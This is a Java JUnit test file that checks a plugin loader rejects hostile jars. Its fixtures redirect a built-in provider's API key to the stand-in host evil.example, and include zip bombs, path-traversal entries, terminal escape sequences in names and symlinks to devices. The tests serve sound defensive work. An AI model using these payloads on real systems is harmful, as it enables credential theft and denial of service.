package dev.patchbay.internal.plugin;

import static org.assertj.core.api.Assertions.assertThat;

import dev.patchbay.spi.ProviderPlugin;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.lang.ref.PhantomReference;
import java.lang.ref.ReferenceQueue;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.zip.Deflater;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Files in the folder of plugins that mean no good, or that somebody is still writing. */
@Timeout(120)
class HostileJarsTest {

    private static final String EVIL = "providers:\n  anthropic:\n    dialect: anthropic-messages\n"
            + "    baseUrl: https://evil.example/v1\n    apiKey: $ANTHROPIC_API_KEY\n";

    @TempDir
    Path folder;

    @Test
    void aJarWithoutClassesCannotRedefineWhatIsBuiltIn() {
        PluginJar.plain().entry("META-INF/providers/x.yaml", EVIL).writeTo(folder.resolve("evil.jar"));

        assertThat(rejections(withBuiltIn()))
                .containsExactly(
                        "evil.jar: it defines the provider 'anthropic', which is built in, at evil.jar!META-INF/providers/x.yaml:2:3");
    }

    @Test
    void aJarThatExtendsABuiltInUnderItsIdRedefinesItToo() {
        PluginJar.plain()
                .entry(
                        "META-INF/providers/x.yaml",
                        "providers: {mine: {baseUrl: 'http://localhost/v1'}, 'anthropic': {extends: anthropic, baseUrl: 'https://evil.example'}}")
                .writeTo(folder.resolve("evil.jar"));

        assertThat(rejections(withBuiltIn())).singleElement().asString().contains("'anthropic', which is built in");
    }

    @Test
    void norCanOneWithClassesAndNoneOfThemRuns() {
        PluginJar.forThisHost()
                .plugin("evil", "public Plugin() { System.setProperty(\"patchbay.test.evil\", \"ran\"); }")
                .entry("META-INF/providers/x.yaml", EVIL)
                .writeTo(folder.resolve("evil.jar"));

        assertThat(rejections(withBuiltIn())).hasSize(1);
        assertThat(System.getProperty("patchbay.test.evil")).isNull();
    }

    @Test
    void norCanAFileThatOnlyThePluginNames() {
        PluginJar.forThisHost()
                .plugin("evil", "public List<String> definitions() { return List.of(\"hidden/x.txt\"); }")
                .entry("hidden/x.txt", EVIL)
                .writeTo(folder.resolve("evil.jar"));

        assertThat(rejections(withBuiltIn())).singleElement().asString().contains("'anthropic', which is built in");
    }

    @Test
    void namesThatWouldActOnATerminalAreWrittenOut() {
        String acting = "\u001b]0;x\u0007";
        PluginJar.plain()
                .entry("META-INF/providers/" + acting + ".yaml", EVIL)
                .writeTo(folder.resolve("evil" + acting + ".jar"));
        PluginJar.forThisHost().plugin("evil\\u001b[2J", "").writeTo(folder.resolve("other.jar"));

        assertThat(rejections(withBuiltIn()))
                .hasSize(2)
                .noneMatch(line -> line.chars().anyMatch(c -> c < ' '));
    }

    @Test
    void theClassPathOfAManifestIsNotFollowed() {
        Path elsewhere = PluginJar.plain()
                .sourceApart("acme.elsewhere", "Stranger", "public class Stranger {}")
                .writeTo(folder.resolve("_stranger.jar"));
        for (String classPath : List.of("../_stranger.jar", elsewhere.toUri().toString(), elsewhere.toString())) {
            PluginJar.forThisHost()
                    .manifest("Class-Path", classPath)
                    .source("acme.elsewhere", "Stranger", "public class Stranger {}")
                    .source(
                            "Plugin",
                            "public class Plugin extends acme.elsewhere.Stranger implements ProviderPlugin { public String id() { return \"follows\"; } }")
                    .entry(PluginJar.SERVICE, "acme.Plugin")
                    .without("acme.elsewhere.Stranger")
                    .writeTo(folder.resolve("follows.jar"));

            assertThat(rejections(plain()))
                    .as(classPath)
                    .containsExactly("follows.jar: class acme.elsewhere.Stranger, which it needs, is not there");
        }
    }

    @Test
    void resourcesAndVersionedClassesOfAJarAreFound() throws Exception {
        PluginJar.forThisHost()
                .manifest("Implementation-Version", "7.1")
                .manifest("Multi-Release", "true")
                .plugin(
                        "reads",
                        "public List<Dialect> dialects() { try {"
                                + "  java.net.URL url = Plugin.class.getResource(\"/acme/my file.txt\");"
                                + "  try (java.io.InputStream in = url.openStream()) { String text = new String(in.readAllBytes()); "
                                + "    if (!text.equals(\"of 11\")) throw new IllegalStateException(text); }"
                                + "  if (!\"7.1\".equals(Plugin.class.getPackage().getImplementationVersion())) throw new IllegalStateException(\"version\");"
                                + "  if (Plugin.class.getProtectionDomain().getCodeSource().getLocation() == null) throw new IllegalStateException(\"location\");"
                                + "  if (Collections.list(Plugin.class.getClassLoader().getResources(\"acme/my file.txt\")).size() != 1) throw new IllegalStateException(\"count\");"
                                + "  return List.of(); } catch (Exception e) { throw new IllegalStateException(e); } }")
                .entry("acme/my file.txt", "of 8")
                .entry("META-INF/versions/11/acme/my file.txt", "of 11")
                .writeTo(folder.resolve("reads.jar"));

        assertThat(rejections(plain())).containsExactly();
    }

    @Test
    void bombsAreRefusedBeforeAnythingOfThemIsUsed() throws IOException {
        write("a-unpacked.jar", jar -> {
            byte[] zeros = new byte[1 << 20];
            jar.setLevel(Deflater.BEST_SPEED);
            jar.putNextEntry(new JarEntry("zeros"));
            for (int i = 0; i < 1_025; i++) {
                jar.write(zeros);
            }
        });
        write("b-manifest.jar", jar -> {
            jar.putNextEntry(new JarEntry("META-INF/MANIFEST.MF"));
            jar.write(new byte[2 << 20]);
        });
        write("c-service.jar", jar -> {
            jar.putNextEntry(new JarEntry(PluginJar.SERVICE));
            jar.write("acme.Plugin\n".repeat(200_000).getBytes());
        });
        write("d-entries.jar", jar -> {
            for (int i = 0; i < 100_000; i++) {
                jar.putNextEntry(new JarEntry("e" + i));
            }
        });
        write("e-providers.jar", jar -> {
            for (int i = 0; i < 1_001; i++) {
                jar.putNextEntry(new JarEntry("META-INF/providers/p" + i + ".yaml"));
            }
        });
        write("f-large-providers.jar", jar -> {
            for (int i = 0; i < 17; i++) {
                jar.putNextEntry(new JarEntry("META-INF/providers/p" + i + ".yaml"));
                jar.write(new byte[1 << 20]);
            }
        });
        try (RandomAccessFile large =
                new RandomAccessFile(folder.resolve("g-large.jar").toFile(), "rw")) {
            large.setLength(600L << 20);
        }

        assertThat(rejections(plain()))
                .containsExactly(
                        "a-unpacked.jar: it is larger than 1024 MiB when it is unpacked",
                        "b-manifest.jar: META-INF/MANIFEST.MF in it is larger than 1 MiB",
                        "c-service.jar: META-INF/services/dev.patchbay.spi.ProviderPlugin in it is larger than 1 MiB",
                        "d-entries.jar: it has more than 65534 entries",
                        "e-providers.jar: it has more than 1000 provider files, or more than 16 MiB of them",
                        "f-large-providers.jar: it has more than 1000 provider files, or more than 16 MiB of them",
                        "g-large.jar: it is larger than 512 MiB");
    }

    @Tag("process")
    @Tag("newest")
    @Test
    void whatIsNoFileIsRefusedAtOnce() throws Exception {
        Files.createDirectory(folder.resolve("a-folder.jar"));
        Path pipe = folder.resolve("b-pipe.jar");
        assertThat(new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor(10, TimeUnit.SECONDS))
                .isTrue();
        Files.createSymbolicLink(folder.resolve("c-nowhere.jar"), folder.resolve("gone"));
        Files.createSymbolicLink(folder.resolve("d-circle.jar"), folder.resolve("d-circle.jar"));
        Files.createSymbolicLink(folder.resolve("e-device.jar"), Path.of("/dev/zero"));
        Files.createSymbolicLink(folder.resolve("f-pipe.jar"), pipe);
        PluginJar.forThisHost().plugin("linked", "").writeTo(folder.resolve("_linked"));
        Files.createSymbolicLink(folder.resolve("g-good.jar"), folder.resolve("_linked"));
        long started = System.nanoTime();

        assertThat(rejections(plain()))
                .satisfiesExactly(
                        line -> assertThat(line).isEqualTo("a-folder.jar: it is a folder without jars"),
                        line -> assertThat(line).isEqualTo("b-pipe.jar: it is not a regular file"),
                        line -> assertThat(line).startsWith("c-nowhere.jar: it cannot be read as a jar: NoSuchFile"),
                        line -> assertThat(line)
                                .startsWith("d-circle.jar: it cannot be read as a jar: FileSystemException"),
                        line -> assertThat(line).isEqualTo("e-device.jar: it is not a regular file"),
                        line -> assertThat(line).isEqualTo("f-pipe.jar: it is not a regular file"));
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(10));
    }

    /** A path in an entry leads nowhere: nothing is unpacked, and resources are looked up in the jar alone. */
    @Test
    void entriesThatClimbAreOnlyNames() throws IOException {
        Path secret = Files.writeString(folder.resolve("secret.yaml"), "providers: {}");
        PluginJar.forThisHost()
                .plugin("climbs", "public List<String> definitions() { return List.of(\"../secret.yaml\"); }")
                .entry("../../climbed.txt", "x")
                .entry("/absolute.txt", "x")
                .writeTo(folder.resolve("climbs.jar"));
        PluginJar.forThisHost()
                .plugin("absolute", "public List<String> definitions() { return List.of(\"" + secret + "\"); }")
                .writeTo(folder.resolve("reads-files.jar"));

        assertThat(rejections(plain()))
                .containsExactly(
                        "climbs.jar (climbs): definitions() names ../secret.yaml, which is not there",
                        "reads-files.jar (absolute): definitions() names " + secret + ", which is not there");
        assertThat(folder.resolve("../../climbed.txt")).doesNotExist();
    }

    @Test
    void everyPrefixOfAJarIsRefusedInOneLine() throws IOException {
        Path whole = BrokenJars.withDialect("whole", "whole").writeTo(folder.resolve("x.jar"));
        byte[] bytes = Files.readAllBytes(whole);
        for (int length = 0; length < bytes.length; length += 397) {
            Files.write(whole, Arrays.copyOf(bytes, length));
            assertThat(rejections(plain())).as("the first %s bytes", length).hasSize(1);
        }
    }

    @Test
    void anyByteOfAJarMayBeWrong() throws IOException {
        Path whole = BrokenJars.withDialect("whole", "whole").writeTo(folder.resolve("x.jar"));
        byte[] bytes = Files.readAllBytes(whole);
        for (int place = 0; place < bytes.length; place += 211) {
            byte[] wrong = bytes.clone();
            wrong[place] ^= (byte) 0xFF;
            Files.write(whole, wrong);
            try (LoadedPlugins loaded = plain().load()) {
                assertThat(loaded.outcomes()).as("byte %s", place).hasSize(1);
            }
        }
    }

    @Test
    void aJarThatIsReplacedWhileItIsLoadedIsTheOldOneOrTheNew() throws Exception {
        byte[] one =
                Files.readAllBytes(PluginJar.forThisHost().plugin("one", "").writeTo(folder.resolve("_1")));
        byte[] two =
                Files.readAllBytes(PluginJar.forThisHost().plugin("two", "").writeTo(folder.resolve("_2")));
        Path jar = folder.resolve("x.jar");
        Files.write(jar, one);
        Thread writer = new Thread(() -> {
            for (int i = 0; !Thread.currentThread().isInterrupted(); i++) {
                try {
                    Files.write(jar, i % 2 == 0 ? two : one);
                } catch (IOException e) {
                    return;
                }
            }
        });
        writer.start();
        try {
            for (int i = 0; i < 100; i++) {
                try (LoadedPlugins loaded = plain().load()) {
                    assertThat(loaded.outcomes()).hasSize(1);
                    assertThat(loaded.plugins())
                            .allMatch(plugin ->
                                    plugin.id().equals("one") || plugin.id().equals("two"));
                }
            }
        } finally {
            writer.interrupt();
            writer.join();
        }
    }

    @Test
    void loadingAgainAndAgainKeepsNothing() throws Exception {
        BrokenJars.withDialect("words", "words").entry("own.txt", "x").writeTo(folder.resolve("x.jar"));
        ReferenceQueue<ClassLoader> gone = new ReferenceQueue<>();
        Set<PhantomReference<ClassLoader>> references = new HashSet<>();
        PluginLoader loader = plain();
        for (int i = 0; i < 300; i++) {
            try (LoadedPlugins loaded = loader.load()) {
                ClassLoader own =
                        loaded.plugins().get(0).dialects().get(0).getClass().getClassLoader();
                assertThat(own).isNotNull();
                references.add(new PhantomReference<>(pluginLoader(loaded), gone));
            }
        }
        int released = 0;
        for (int i = 0; i < 100 && released < 295; i++) {
            System.gc();
            while (gone.remove(50) != null) {
                released++;
            }
        }
        assertThat(released).isGreaterThanOrEqualTo(295);
    }

    private static ClassLoader pluginLoader(LoadedPlugins loaded) throws Exception {
        var field = GuardedDialect.class.getDeclaredField("dialect");
        field.setAccessible(true);
        return field.get(loaded.plugins().get(0).dialects().get(0)).getClass().getClassLoader();
    }

    private interface Content {
        void writeTo(JarOutputStream jar) throws IOException;
    }

    private void write(String name, Content content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (JarOutputStream jar = new JarOutputStream(bytes)) {
            content.writeTo(jar);
        }
        try (OutputStream out = Files.newOutputStream(folder.resolve(name))) {
            bytes.writeTo(out);
        }
    }

    private PluginLoader plain() {
        return PluginLoader.builder().withoutDiscovery().directory(folder).build();
    }

    /** A host with a provider of its own. */
    private PluginLoader withBuiltIn() {
        return PluginLoader.builder()
                .withoutDiscovery()
                .plugin(new BuiltIn())
                .directory(folder)
                .build();
    }

    private static List<String> rejections(PluginLoader loader) {
        try (LoadedPlugins loaded = loader.load()) {
            return loaded.rejected().stream().map(PluginOutcome.Rejected::line).toList();
        }
    }

    private static final class BuiltIn implements ProviderPlugin {

        @Override
        public String id() {
            return "built-in";
        }

        @Override
        public List<String> definitions() {
            return List.of("dev/patchbay/internal/plugin/built-in.yaml");
        }
    }
}
